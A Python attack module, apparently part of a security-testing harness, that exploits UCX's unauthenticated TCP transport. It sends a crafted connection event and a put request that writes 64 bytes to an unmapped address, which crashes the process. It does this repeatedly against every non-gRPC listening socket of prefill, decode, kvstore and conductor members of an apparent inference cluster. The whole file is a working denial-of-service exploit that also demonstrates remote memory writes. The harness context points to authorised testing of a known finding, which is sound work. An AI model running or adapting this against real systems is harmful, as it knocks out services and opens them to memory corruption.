"""A stranger on the network writes into a worker's memory, through whatever UCX listens on.

UCX's TCP transport asks nobody who he is: after its magic number and a request for a connection, a
message says at which address the bytes that follow are to be written.
"""

import socket
import struct

from tools.attacks.target import AttackTarget, MemberAddress

FINDING = "1: UCX listens on TCP without authentication"

MAGIC = struct.pack("<Q", 0xCAFEBABE12345678)
CONNECTION_EVENT, PUT_REQUEST = 32, 33
"""Kinds of messages."""

NO_ADDRESS = 8
"""Nothing is mapped there: writing it ends the process."""


async def attack(target: AttackTarget) -> None:
    """Tries every listening socket that is neither gRPC nor a line, again and again."""
    addresses = [
        address
        for member in target.of_role("prefill", "decode", "kvstore", "conductor")
        for address in unnamed(member)
    ]
    target.outcomes["listeners"] = len(addresses)
    while not target.is_over:
        for address in addresses:
            await target.send(hello() + put(NO_ADDRESS, b"\xff" * 64), address, 0.5)
        await target.rest(1.0)


def unnamed(member: MemberAddress) -> list[str]:
    """Sockets of the member that are neither gRPC nor a line."""
    named = {member.grpc, member.line}
    return [address for address in member.listening if address not in named]


def hello() -> bytes:
    """Magic number, then an event of a connection that is asked for, in one byte, with a number."""
    address = struct.pack("<HH4s8x", socket.AF_INET, 0, socket.inet_aton("127.0.0.1"))
    return MAGIC + _message(CONNECTION_EVENT, struct.pack("<BQ", 1, 1) + address)


def put(address: int, data: bytes) -> bytes:
    """Asks for ``data`` to be written at ``address`` of the process."""
    return _message(PUT_REQUEST, struct.pack("<QQI", address, len(data), 0)) + data


def _message(kind: int, payload: bytes) -> bytes:
    return struct.pack("<BI", kind, len(payload)) + payload
